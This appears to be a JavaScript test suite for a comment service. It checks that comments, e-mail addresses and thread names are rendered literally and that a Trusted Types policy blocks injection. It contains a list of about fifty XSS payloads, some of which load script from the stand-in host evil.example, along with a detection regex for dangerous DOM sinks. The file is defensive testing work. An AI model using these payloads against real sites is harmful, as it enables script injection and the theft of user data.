// What readers write is text. Nothing of it runs, loads, opens or moves anything: stored in a
// comment or an e-mail address, in the name of a thread, or in the words of an answer.

import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { after, test } from "node:test";
import { fileURLToPath } from "node:url";

import { reader, shareChromium } from "./reader.js";
import { serve } from "./service.js";

shareChromium(after);

const run = "window.__xss=1";

// Each sets window.__xss, opens a dialog or sends a request, if any of it is taken for markup.
const vectors = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script src="http://evil.example/x.js"></script>`,
  `<script type="module">${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<img src="http://evil.example/pixel.png">`,
  `"><img src=x onerror=${run}>`,
  `'"></p></li></ol><img src=x onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus>click</a>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action="javascript:${run}"><button id="language">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `\${${run}}`,
  `{{constructor.constructor("${run}")()}}`,
  `<%= ${run} %>`,
  "`;window.__xss=1;`",
  `";${run};//`,
  `';${run};//`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\uFF1Cimg src=x onerror=${run}\uFF1E`,
  `\u2028<img src=x onerror=${run}>\u2029`,
  `\u202E<img src=x onerror=${run}>`,
  `\uFEFF<scr\u0130pt>${run}</scr\u0130pt>`,
  `<img src=x\u000Conerror=${run}>`,
  `Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351algo`,
  `data: x\n\nevent: comment\ndata: {"id":1e9,"comment":"forged"}\n\n`,
  `__proto__`,
];

// As an address: no white space, one @, at most 254 bytes.
const emails = vectors
  .map((vector) => `${vector.replace(/[\s\u0085\uFEFF\u2028\u2029]/g, "/").replaceAll("@", "")}@b`)
  .filter((email) => new TextEncoder().encode(email).length <= 254);

async function checkNothingRan(one, what) {
  await one.page.evaluate(() => new Promise((resolve) => {
    requestAnimationFrame(() => setTimeout(resolve)); // what had been queued has run
  }));
  assert.equal(await one.page.evaluate(() => window.__xss), undefined, what);
  assert.equal(await one.page.evaluate(() =>
    document.querySelectorAll("#thread :not(li, p, bdi, time)").length), 0, what);
}

test("a comment is shown literally, loaded or live, and never run", async (t) => {
  assert(vectors.length >= 25);
  const service = await serve(t);
  await service.postAll(vectors.slice(0, 30));
  const ana = await reader(service, { viewport: { width: 1000, height: 8000 } });
  await ana.openLive();
  await ana.waitForComments(vectors.slice(0, 30).reverse());
  await service.postAll(vectors.slice(30));
  await ana.waitForComments([...vectors].reverse());
  await checkNothingRan(ana);
  await ana.page.reload();
  await ana.until(async () => (await ana.comments()).length >= 50, "the thread again");
  const shown = await ana.comments();
  assert.deepEqual(shown, [...vectors].reverse().slice(0, shown.length));
  await checkNothingRan(ana);
  t.diagnostic(`${vectors.length} vectors in comments, none ran`);
});

test("an e-mail address is shown literally, loaded or live, and never run", async (t) => {
  assert(emails.length >= 25);
  for (const visibility of ["raw", "masked"]) {
    const service = await serve(t, "--email-visibility", visibility);
    const ana = await reader(service, { viewport: { width: 1000, height: 8000 } });
    for (const email of emails.slice(0, 20)) {
      await service.post("text", { email });
    }
    await ana.openLive();
    for (const email of emails.slice(20)) {
      await service.post("text", { email });
    }
    const stored = (await service.list()).map((comment) => comment.email).reverse();
    await ana.until(async () => (await ana.authors()).length === stored.length, "all of them");
    assert.deepEqual(await ana.authors(), stored);
    if (visibility === "raw") {
      assert.deepEqual(stored, [...emails].reverse());
    }
    await checkNothingRan(ana);
  }
  t.diagnostic(`${emails.length} vectors in addresses, none ran`);
});

test("what is posted from the page comes back literally", async (t) => {
  const service = await serve(t);
  const ana = await reader(service);
  await ana.openLive();
  for (const vector of vectors.slice(0, 12)) {
    await ana.write(vector);
    await ana.send();
    await ana.until(async () => (await ana.comments())[0] === vector, vector);
  }
  await checkNothingRan(ana);
});

test("the name of a thread in the address is shown literally, and never run", async (t) => {
  const service = await serve(t);
  const ana = await reader(service);
  for (const vector of vectors) {
    await ana.open(`/?content_id=${encodeURIComponent(vector)}`);
    await ana.waitFor("thread-name", vector);
    await ana.until(async () => /live|not connected/.test(await ana.text("live")), "an answer");
    await checkNothingRan(ana, vector);
  }
  ana.expectFailedRequests(); // some are no names
  t.diagnostic(`${vectors.length} vectors in the name of a thread, none ran`);
});

test("the sources hold nothing that makes markup or code of text", () => {
  const folder = fileURLToPath(new URL("../../core/api/page/", import.meta.url));
  const files = readdirSync(folder);
  const sinks = new RegExp(["innerHTML", "outerHTML", "insertAdjacentHTML", "document\\.write",
    "DOMParser", "createContextualFragment", "setHTML", "\\beval\\b", "\\bFunction\\(",
    "srcdoc", "javascript:", "\\.href =", "\\.src =", "set(Timeout|Interval)\\([\"'`]",
  ].join("|"));
  for (const file of files.filter((name) => name.endsWith(".js"))) {
    assert.doesNotMatch(readFileSync(folder + file, "utf8"), sinks, file);
  }
  const document = readFileSync(`${folder}index.html`, "utf8");
  assert.doesNotMatch(document, /<script(?![^>]* src=)|<style|\son\w+=|\sstyle=|https?:/);
  assert(files.length >= 10);
});

test("were there a hole, the policy would close it: no markup from text, no code from text",
  async (t) => {
    const service = await serve(t);
    const ana = await reader(service);
    await ana.openLive();
    const outcome = await ana.page.evaluate(() => {
      const tries = {
        innerHTML: () => (document.body.innerHTML = "<img src=x onerror=window.__xss=1>"),
        inlineScript: () => {
          const script = document.createElement("script");
          script.append("window.__xss=1");
          document.body.append(script);
        },
        elsewhere: () => {
          const image = document.createElement("img");
          image.setAttribute("src", "http://evil.example/x.png");
          document.body.append(image);
        },
        handler: () => {
          const button = document.createElement("button");
          button.setAttribute("onclick", "window.__xss=1");
          document.body.append(button);
          button.click();
        },
      };
      for (const attempt of Object.values(tries)) {
        try {
          attempt();
        } catch {
          // Refused by Trusted Types.
        }
      }
      return new Promise((resolve) => setTimeout(() => resolve(window.__xss)));
    });
    assert.equal(outcome, undefined);
    const refusals = () => ana.faults.filter((fault) => fault.startsWith("console: policy: "));
    await ana.until(() => refusals().length === 4, "the browser to report all four");
    assert.equal(refusals().filter((fault) => fault.includes("trusted-types")).length, 3);
    ana.faults = ana.faults.filter((fault) => !/policy|Trusted|evil/i.test(fault));
  });
